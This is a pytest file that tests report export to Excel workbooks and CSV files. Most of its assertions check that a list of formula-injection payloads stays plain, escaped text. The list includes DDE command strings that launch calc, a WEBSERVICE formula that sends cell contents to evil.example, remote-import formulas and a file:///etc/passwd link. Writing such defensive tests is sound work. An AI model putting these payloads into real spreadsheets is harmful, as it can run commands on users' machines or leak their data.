"""A report as a workbook and as a CSV file: types of cells, and nothing that is run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from handlers.views import csv_files, workbooks
from models.reports import periods
from models.reports.report import (
    COUNT,
    DAY,
    MONEY,
    NUMBER,
    SHARE,
    Chart,
    Column,
    Fact,
    Report,
    Row,
    Table,
)

PAYLOADS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "==1", "=", "-"),
    '=HYPERLINK("http://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")',
    '=DDE("cmd";"/C calc";"a")',
    "=2+5+cmd|' /C calc'!A0",
    "=IFERROR(1/0,1)",
    "{=SUM(1,1)}",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '";=1+1',
    "x\n=1+1",
    "http://evil.example",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "1e5",
    "0012",
    "2026-03-10",
    "TRUE",
    "#REF!",
    "\u00a0=1+1",
    "_x003D_1+1",
    "\x01=1+1",
)
COLUMNS = (
    Column("Name"),
    Column("Day", DAY),
    Column("Count", COUNT),
    Column("Amount", MONEY),
    Column("Share", SHARE),
    Column("Days", NUMBER),
)
FULL: Row = ("Mercy", date(2026, 3, 10), 3, 123450, 0.632, 2.5)


def a_report(rows: Iterable[Row], **told: Any) -> Report:
    return Report(
        name="closings",
        title="Closings",
        period=periods.parse("2026-03"),
        as_of=date(2026, 3, 10),
        tables=[Table("Closings", COLUMNS, rows)],
        facts=[Fact("Won", [(COUNT, 2), (MONEY, 100)]), Fact("Win rate", [(SHARE, None)])],
        notes=["Amount is what it is."],
        **told,
    )


def a_workbook(report: Report) -> io.BytesIO:
    file = io.BytesIO()
    workbooks.write(report, file)
    file.seek(0)
    return file


def as_csv(report: Report) -> list[list[str]]:
    file = io.StringIO(newline="")
    csv_files.write(report, file)
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


def test_every_payload_stays_a_text_in_a_workbook() -> None:
    file = a_workbook(a_report([(text, None, None, None, None, None) for text in PAYLOADS]))
    with ZipFile(file) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet
        assert not [
            name for name in parts.namelist() if "externalLink" in name or "_rels/s" in name
        ]
    cells = [row[0] for row in load_workbook(file)["Closings"].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS) or {
        cell.data_type for cell in cells
    } <= {"s", "inlineStr"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert all(cell.quotePrefix for cell in cells)
    assert [cell.hyperlink for cell in cells] == [None] * len(PAYLOADS)


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_payload_is_a_formula_in_a_csv(text: str) -> None:
    (_, (told, *_)) = as_csv(a_report([(text, None, None, None, None, None)]))
    assert not told.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not told.startswith(("\t", "\r", "\n"))
    assert told in (text, f"'{text}")


def test_an_innocent_text_and_a_negative_number_have_no_apostrophe() -> None:
    (_, told) = as_csv(a_report([("St. Mary's", date(2026, 3, 1), -2, -150, 0.5, -2.25)]))
    assert told == ["St. Mary's", "2026-03-01", "-2", "-1.50", "0.5", "-2.25"]


def test_a_csv_has_plain_numbers_and_days() -> None:
    assert as_csv(a_report([FULL, (None,) * 6])) == [
        ["Name", "Day", "Count", "Amount", "Share", "Days"],
        ["Mercy", "2026-03-10", "3", "1234.50", "0.632", "2.5"],
        [""] * 6,
    ]


def test_a_workbooks_cells_have_their_types_and_formats() -> None:
    sheet = load_workbook(a_workbook(a_report([FULL])))["Closings"]
    (cells,) = sheet.iter_rows(min_row=2)
    assert [cell.value for cell in cells] == [
        *("Mercy", datetime.fromisoformat("2026-03-10"), 3, 1234.5, 0.632, 2.5)
    ]
    assert [cell.number_format for cell in cells] == [
        *("@", "yyyy-mm-dd", "#,##0", '"$"#,##0.00', "0.0%", "#,##0.0")
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F2"
    assert all(sheet.column_dimensions[name].width >= 8 for name in "ABCDEF")


def test_the_summary_has_the_totals_the_charts_and_how_they_are_reckoned() -> None:
    charts = [Chart("Amount", "Closings", "Name", ("Amount", "Count"))]
    book = load_workbook(a_workbook(a_report([FULL, FULL], charts=charts)))
    sheet = book["Summary"]
    texts = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert texts[:2] == ["Closings", "2026-03; made 2026-03-10"]
    assert texts[2:7] == ["Won", 2, 1, "Win rate", "–"]
    assert texts[-1] == "Amount is what it is."


def test_a_chart_is_a_native_one_of_the_rows() -> None:
    charts = [Chart("Amount", "Closings", "Name", ("Amount",))]
    with ZipFile(a_workbook(a_report([FULL] * 3, charts=charts))) as parts:
        chart = parts.read("xl/charts/chart1.xml").decode()
    assert "<c:f>Closings!$D$2:$D$4</c:f>" in chart
    assert "<c:f>Closings!$A$2:$A$4</c:f>" in chart


def test_a_report_without_rows_is_a_workbook_still() -> None:
    charts = [Chart("Amount", "Closings", "Name", ("Amount",))]
    book = load_workbook(a_workbook(a_report([], charts=charts)))
    assert book["Closings"].max_row == 1


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbooks, "MOST_ROWS", 2)
    file = io.BytesIO()
    with pytest.raises(workbooks.TooManyRows):
        workbooks.write(a_report([FULL] * 3), file)
    assert file.getvalue() == b""


def test_the_longest_text_and_a_sign_of_another_plane_are_kept() -> None:
    text = "🙂" + "x" * 300
    sheet = load_workbook(a_workbook(a_report([(text, None, None, None, None, None)])))["Closings"]
    assert sheet["A2"].value == text
